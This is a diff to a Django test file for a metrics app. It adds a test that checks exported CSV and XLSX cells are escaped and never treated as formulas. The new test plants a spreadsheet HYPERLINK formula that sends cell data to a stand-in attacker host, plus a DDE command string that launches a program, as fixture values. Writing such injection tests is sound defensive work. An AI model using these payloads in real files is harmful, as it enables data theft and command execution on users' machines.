@@ -62,12 +62,13 @@ def test_the_monthly_report_is_a_printable_page(september, client, manager, team
     client.force_login(manager)
     response = client.get("/metrics/report/", {"month": "2026-09", "team": team.pk})
     text = response.content.decode()
-    assert response.status_code == 200 and "metrics/metrics.css" in text and "window.print()" in text
+    assert response.status_code == 200 and "metrics/metrics.css" in text and 'class="print-page"' in text
     assert 'data-kpi="first_contact_resolution"' in text and "2026-09" in text
     from django.contrib.staticfiles import finders
 
     css = open(finders.find("metrics/metrics.css"), encoding="utf-8").read()
     assert "@media print" in css and ".topbar" in css
+    assert "window.print()" in open(finders.find("kesu/kesu.js"), encoding="utf-8").read()  # the button's click
 
 
 def test_the_dashboard_page_shows_charts_from_the_packages_own_static_files(september, client, manager):
@@ -112,3 +113,20 @@ def _tier(code):
     from kesu.customers.models import Tier
 
     return Tier.objects.get(code=code).pk
+
+
+def test_exported_cells_never_run_as_formulas(september, client, manager, team):
+    """A name someone typed as a formula is exported as text, in CSV and in XLSX."""
+    team.name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    team.save()
+    september.a.customer.name = "-2+3+cmd|' /C calc'!A0"  # masked to its first character, still "-…"
+    september.a.customer.save()
+    client.force_login(manager)
+    text = body(client.get("/metrics/export/complaints.csv")).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + team.name in cells and any(cell.startswith("'-*") for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    book = load_workbook(io.BytesIO(client.get("/metrics/export/complaints.xlsx").content))
+    sheet = book.active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert "'" + team.name in [cell.value for row in sheet.iter_rows() for cell in row]
